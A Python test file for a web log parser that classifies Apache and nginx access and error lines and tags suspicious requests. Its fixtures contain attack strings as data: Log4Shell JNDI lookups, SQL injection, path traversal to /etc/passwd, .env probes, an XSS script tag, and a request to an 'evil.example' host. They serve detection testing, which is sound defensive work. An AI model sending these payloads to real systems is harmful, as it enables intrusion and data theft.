import pytest
from hypothesis import given
from hypothesis import strategies as st

from trine.log_formats.log_event import LogEvent
from trine.log_formats.web_formats import Access, WebError, request_parts

FIREFOX = "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0"
AT = "10/Oct/2000:13:55:36 -0700"
TIME = 971211336.0  # 2000-10-10 20:55:36 UTC


def access(line: str) -> LogEvent:
    event = Access().parse(line)
    assert event is not None
    assert isinstance(event.event, tuple)
    assert not event.mined
    return event


def name(event: LogEvent) -> str:
    return "".join(event.event)


def test_a_combined_line_gives_parts_time_address_user_and_classes() -> None:
    line = f'10.0.0.1 - ann [{AT}] "GET /blog/2024/may.html?x=1 HTTP/1.0" 200 2326 "http://a.example/" "{FIREFOX}"'
    event = access(line)
    assert event.event == ("GET ", "/blog", "/<*>", "/may", ".html", "?", " 200")
    assert event.time == TIME
    assert event.entities == {"address": "10.0.0.1", "user": "ann"}
    assert event.attributes == {
        "method": "GET",
        "status": "200",
        "size": "1e3",
        "agent": "firefox",
        "referer": "other",
        "user": "known",
    }


@pytest.mark.parametrize(
    ("line", "address", "expected"),
    [
        (f'127.0.0.1 - - [{AT}] "GET / HTTP/1.1" 200 12', "127.0.0.1", "GET / 200"),
        (f'2001:db8::7 - - [{AT}] "POST /login.php HTTP/1.1" 302 - "-" "-"', "2001:db8::7", "POST /login.php 302"),
        (f'www.a.example:443 10.1.1.1 - - [{AT}] "GET /x HTTP/1.1" 200 5 "-" "curl/7"', "10.1.1.1", "GET /x 200"),
        (f'www.a.example:80 c.isp.example - - [{AT}] "GET /x HTTP/1.1" 200 5', "c.isp.example", "GET /x 200"),
        (
            f'10.0.0.1 - - [{AT}] "GET /x HTTP/1.1" 499 0 "-" "{FIREFOX}" "1.2.3.4, 5.6.7.8" 0.005 -',
            "10.0.0.1",
            "GET /x 499",
        ),
        (f'10.0.0.1 - - [{AT}] "GET /x HTTP/1.1" 000 0 "-" "-"', "10.0.0.1", "GET /x 000"),
        (f'10.0.0.1 identd - [{AT}] "GET /x HTTP/1.1" 200 5', "10.0.0.1", "GET /x 200"),
        (
            f'10.0.0.1 - - [{AT}] "GET /up.php?c=\\"id\\" HTTP/1.1" 200 5 "-" "curl/7"',
            "10.0.0.1",
            "GET /up.php?{quotes} 200",
        ),
        (f'10.0.0.1 - - [{AT}] "GET /x?a="b"c HTTP/1.1" 200 5', "10.0.0.1", "GET /x?{quotes} 200"),
        (f'10.0.0.1 - - [{AT}] "\\x16\\x03\\x01\\x00\\xee" 400 0 "-" "-"', "10.0.0.1", "TLS request 400"),
        (f'10.0.0.1 - - [{AT}] "-" 408 - "-" "-"', "10.0.0.1", "empty request 408"),
        (f'10.0.0.1 - - [{AT}] "" 400 0 "-" "-"', "10.0.0.1", "empty request 400"),
        (f'10.0.0.1 - - [{AT}] "SSH-2.0-Go" 400 0 "-" "-"', "10.0.0.1", "no HTTP 400"),
        (f'10.0.0.1 - - [{AT}] "GET /old" 200 5', "10.0.0.1", "GET /old no protocol 200"),
        (f'10.0.0.1 - - [{AT}] "CONNECT mail.example:25 HTTP/1.1" 405 5', "10.0.0.1", "CONNECT <*>:25 405"),
        (f'10.0.0.1 - - [{AT}] "GET http://evil.example/p.txt HTTP/1.1" 404 5', "10.0.0.1", "GET http://<*>/p.txt 404"),
        (f'10.0.0.1 - - [{AT}] "OPTIONS * HTTP/1.0" 200 5', "10.0.0.1", "OPTIONS * 200"),
        (f'10.0.0.1 - - [{AT}] "XYZZY /a HTTP/1.0" 405 5', "10.0.0.1", "OTHER /a 405"),
        (f'10.0.0.1 - - [{AT}] "GET /a b.html HTTP/1.1" 404 5', "10.0.0.1", "GET /a b.html 404"),
    ],
)
def test_lines_of_all_variants_are_read(line: str, address: str, expected: str) -> None:
    event = access(line)
    assert (event.entities["address"], name(event), event.time) == (address, expected, TIME)


def test_a_user_with_blanks_and_brackets_is_read() -> None:
    event = access(f'10.0.0.1 - John [Jr] Doe [{AT}] "GET / HTTP/1.1" 200 5 "-" "-"')
    assert event.entities == {"address": "10.0.0.1", "user": "John [Jr] Doe"}


@pytest.mark.parametrize(
    "line",
    [
        "",
        "hello",
        f'10.0.0.1 - - [{AT}] "GET / HT',
        f"10.0.0.1 - - [{AT}]",
        f'10.0.0.1 - - [{AT}] "GET / HTTP/1.1"',
        '"" "" ""',
    ],
)
def test_truncated_lines_and_others_are_of_another_format(line: str) -> None:
    assert Access().parse(line) is None


@pytest.mark.parametrize(
    ("request_line", "parts"),
    [
        (
            "GET /a/b/c/d/e/f/g/h/i/j.png HTTP/1.1",
            ("GET ", "/a", "/b", "/c", "/d", "/e", "/f", "/g", "/h", "/…", ".png", " 200"),
        ),
        ("GET /user/550e8400-e29b-41d4-a716-446655440000/ HTTP/2.0", ("GET ", "/user", "/<*>", "/", " 200")),
        ("GET /cart;jsessionid=0A1B HTTP/1.1", ("GET ", "/cart;jsessionid=<*>", " 200")),
        ("GET /item?id=1'+or+1=1-- HTTP/1.1", ("GET ", "/item", "?{quotes,sql}", " 200")),
        ("GET /../../etc/passwd HTTP/1.1", ("GET ", "/..", "/..", "/etc", "/passwd", "{file,traversal}", " 200")),
        ("GET /a? HTTP/1.1", ("GET ", "/a", "?", " 200")),
        ("GET //a HTTP/1.1", ("GET ", "/", "/a", " 200")),
        ("GET /.env HTTP/1.1", ("GET ", "/.env", "{file}", " 200")),
    ],
)
def test_a_request_becomes_parts(request_line: str, parts: tuple[str, ...]) -> None:
    assert request_parts(request_line, "200") == parts


def test_an_attack_in_the_user_agent_or_the_referer_is_another_event() -> None:
    begin = f'10.0.0.1 - - [{AT}] "GET / HTTP/1.1" 200 5'
    assert name(access(f'{begin} "-" "${{jndi:ldap://x/a}}"')) == "GET / 200 agent{scheme,template}"
    assert name(access(f'{begin} "http://a/?q=1 union select 2" "-"')) == "GET / 200 referer{sql}"
    assert name(access(f'{begin} "https://search.example/?q=what%27s+new" "{FIREFOX}"')) == "GET / 200"


def test_pages_of_the_same_kind_are_one_event() -> None:
    lines = [f'10.0.0.{i} - - [{AT}] "GET /item/{i}?page={i} HTTP/1.1" 200 {i}' for i in range(1, 50)]
    assert {name(access(line)) for line in lines} == {"GET /item/<*>? 200"}


def test_a_referer_is_own_once_its_pages_load_style_sheets_here() -> None:
    log = Access()

    def referer(path: str, from_page: str) -> str:
        event = log.parse(f'10.0.0.1 - - [{AT}] "GET {path} HTTP/1.1" 200 5 "{from_page}" "-"')
        assert isinstance(event, LogEvent)
        return event.attributes["referer"]

    assert referer("/", "https://shop.example/a") == "other"
    assert referer("/main.css", "https://shop.example/a") == "own"
    assert referer("/b", "https://shop.example/a") == "own"
    assert referer("/b", "https://other.example/a") == "other"
    assert referer("/b", "-") == "none"


@pytest.mark.parametrize(
    ("line", "event", "time", "entities", "attributes"),
    [
        (
            "[Tue Oct 10 13:55:36.123456 2000] [core:error] [pid 1:tid 2] [client 1.2.3.4:5678] AH00124: Too many "
            "redirects, referer: http://a.example/",
            "core:error: AH00124: Too many redirects",
            971186136.123456,
            {"address": "1.2.3.4", "process": "1"},
            {"level": "error", "module": "core"},
        ),
        (
            "[Wed Oct 11 14:32:52 2000] [error] [client 127.0.0.1] client denied by server configuration: /htdocs/test",
            "error: client denied by server configuration: /htdocs/test",
            971274772.0,
            {"address": "127.0.0.1"},
            {"level": "error"},
        ),
        (
            "[Wed Oct 11 14:32:52 2000] [php7:warn] [pid 5] [client 2001:db8::1:53012] PHP Warning:  x in /a on line 3",
            "php7:warn: PHP Warning:  x in /a on line 3",
            971274772.0,
            {"address": "2001:db8::1", "process": "5"},
            {"level": "warn", "module": "php7"},
        ),
        (
            "[Wed Oct 11 14:32:52 2000] [mpm_event:notice] [pid 1244:tid 1244] AH00489: Apache/2.4.62 configured",
            "mpm_event:notice: AH00489: Apache/2.4.62 configured",
            971274772.0,
            {"process": "1244"},
            {"level": "notice", "module": "mpm_event"},
        ),
        (
            '[Wed Oct 11 14:32:52 2000] [:error] [pid 7] [client 1.2.3.4:5] ModSecurity: Warning. Matched "Operator" '
            '[id "942100"] [msg "SQL Injection Attack"] [severity "CRITICAL"]',
            "error: ModSecurity: Warning: SQL Injection Attack",
            971274772.0,
            {"address": "1.2.3.4", "process": "7"},
            {"level": "error"},
        ),
        (
            '2024/05/01 10:00:00 [error] 12#34: *5 open() "/x" failed (2: No such file or directory), client: 1.2.3.4, '
            'server: a.example, request: "GET /x HTTP/1.1", host: "a.example"',
            'error: open() "/x" failed (2: No such file or directory)',
            1714557600.0,
            {"address": "1.2.3.4", "process": "12"},
            {"level": "error"},
        ),
        (
            "2024/05/01 10:00:00 [notice] 1#1: start worker process 30",
            "notice: start worker process 30",
            1714557600.0,
            {"process": "1"},
            {"level": "notice"},
        ),
        (
            '2024/05/01 10:00:00 [error] 12#34: *5 open() "/a, client: 8.8.8.8, x" failed, client: 1.2.3.4, server: _, '
            'request: "GET /%24%7bjndi:ldap://x%7d HTTP/1.1"',
            'error: open() "/a, client: 8.8.8.8, x" failed {scheme,template}',
            1714557600.0,
            {"address": "1.2.3.4", "process": "12"},
            {"level": "error", "marks": "scheme,template"},
        ),
    ],
)
def test_error_logs_give_message_level_and_client(
    line: str, event: str, time: float, entities: dict[str, str], attributes: dict[str, str]
) -> None:
    assert WebError().parse(line) == LogEvent(event, True, time, entities, attributes)


HOSTILE = st.text(max_size=200) | st.text(st.sampled_from('"[]\\ -:/GET0x1.%?'), max_size=80)


@given(middle=HOSTILE, cut=st.integers(0, 200))
def test_no_line_breaks_the_web_formats(middle: str, cut: int) -> None:
    for line in (middle, f'10.0.0.1 - - [{AT}] "GET /{middle} HTTP/1.1" 200 5 "{middle}" "{middle}"'):
        for text in (line, line[:cut]):
            for format_ in (Access(), WebError()):
                event = format_.parse(text)
                assert event is None or event.event


@given(request=st.text(max_size=60), status=st.from_regex(r"\A[1-5]\d\d\Z"))
def test_no_request_hides_its_sender(request: str, status: str) -> None:
    quoted = request.replace("\\", "\\\\").replace('"', '\\"')
    event = access(f'10.9.8.7 - - [{AT}] "{quoted}" {status} 5 "-" "-"')
    assert event.entities["address"] == "10.9.8.7"
    assert name(event).removesuffix(" {line break}").endswith(f" {status}")


@pytest.mark.parametrize("filling", ["a", '"', "[", "/", '\\"', ", client: "])
def test_a_huge_line_takes_no_time(filling: str) -> None:
    filler = filling * (1_000_000 // len(filling))
    for format_ in (Access(), WebError()):
        format_.parse(filler)
        format_.parse(f'10.0.0.1 - - [{AT}] "GET /{filler}')
        format_.parse(f'10.0.0.1 - - [{AT}] "GET /{filler} HTTP/1.1" 200 5 "-" "-"')
        format_.parse(f"2024/05/01 10:00:00 [error] 12#34: *5 {filler}")


@pytest.mark.parametrize(
    ("rest", "part"),
    [
        ("", ""),
        (' "1.2.3.4, 5.6.7.8" 0.005 -', ""),
        (' "-"', ""),
        (' "a.example" sn="a.example" rt=0.000 ua="-" us="-"', ""),
        (' "session=5f3a; theme=dark"', ""),
        (' "1.2.3.4\' union select password from users--"', " rest{quotes,sql}"),
        (' "1.2.3.4" or "1"="1"', " rest{quotes,sql}"),
        (' "${jndi:ldap://a/b}" 0.005', " rest{scheme,template}"),
        (' "\\"><script>alert(1)</script>"', " rest{quotes,tag}"),
    ],
)
def test_what_follows_the_user_agent_is_a_part_if_it_is_unusual(rest: str, part: str) -> None:
    event = access(f'10.0.0.1 - - [{AT}] "GET /x HTTP/1.1" 200 5 "-" "{FIREFOX}"{rest}')
    assert name(event) == f"GET /x 200{part}"
    assert name(access(f'10.0.0.1 - - [{AT}] "GET /x HTTP/1.1" 200 5 7 "-" "{FIREFOX}"{rest}')) == name(event)


@pytest.mark.parametrize("character", ["\r", "\v", "\f", "\x85", "\u2028", "\u2029"])
def test_a_line_break_within_a_line_is_a_part(character: str) -> None:
    line = f'10.0.0.1 - - [{AT}] "GET /x HTTP/1.1" 200 5 "-" "{FIREFOX}"'
    assert name(access(f"{line}{character}")) == "GET /x 200"
    assert name(access(f"{line}{character}{line}")).endswith(" {line break}")
    assert name(access(f'10.0.0.1 - - [{AT}] "GET /x{character}y HTTP/1.1" 200 5')).endswith(" {line break}")


@pytest.mark.parametrize("before", ["\t", "\0", "\ufeff", " ", "\r"])
def test_a_line_behind_invisible_characters_is_none(before: str) -> None:
    assert Access().parse(f'{before}10.0.0.1 - - [{AT}] "GET /x HTTP/1.1" 200 5') is None


@pytest.mark.parametrize("character", ["\t", "\0", "\ufeff", "\xa0"])
def test_an_address_has_no_invisible_characters(character: str) -> None:
    assert Access().parse(f'10.0.0.1{character} - - [{AT}] "GET /x HTTP/1.1" 200 5') is None


@pytest.mark.parametrize("filling", ['" ', "\\", "a ", "a=", ",", '"', "\r"])
def test_a_huge_rest_takes_no_time(filling: str) -> None:
    rest = filling * (1_000_000 // len(filling))
    assert Access().parse(f'10.0.0.1 - - [{AT}] "GET /x HTTP/1.1" 200 5 "-" "{FIREFOX}" {rest}') is not None
